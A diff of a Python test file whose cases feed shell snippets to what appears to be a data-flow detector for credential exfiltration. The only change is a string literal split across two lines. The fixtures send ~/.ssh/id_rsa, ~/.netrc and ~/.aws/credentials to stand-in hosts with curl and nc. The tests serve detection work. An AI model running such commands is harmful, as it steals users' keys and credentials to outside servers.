@@ -69,7 +69,8 @@ CASES: list[tuple[str, set[FlowRow]]] = [
     # what read assigns carries what it reads; here-documents and $(< file) are values too
     ('while read -r l; do curl -d "$l" https://x.example.net; done < ~/.ssh/id_rsa',
      {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 1, ((1, "read into l"),), "")}),
-    ('cat ~/.netrc |\n  while IFS= read -r line; do\n    echo "$line" | nc c2.example.org 80\n  done',
+    ('cat ~/.netrc |\n  while IFS= read -r line; do\n'
+     '    echo "$line" | nc c2.example.org 80\n  done',
      {("fs.read(~/.netrc)", 1, "net.connect(c2.example.org:80)", 3,
        ((2, "piped into while"), (2, "read into line"), (3, "piped into nc")), "")}),
     ('read -r k < ~/.aws/credentials\ncurl -d "$k" https://x.example.net',
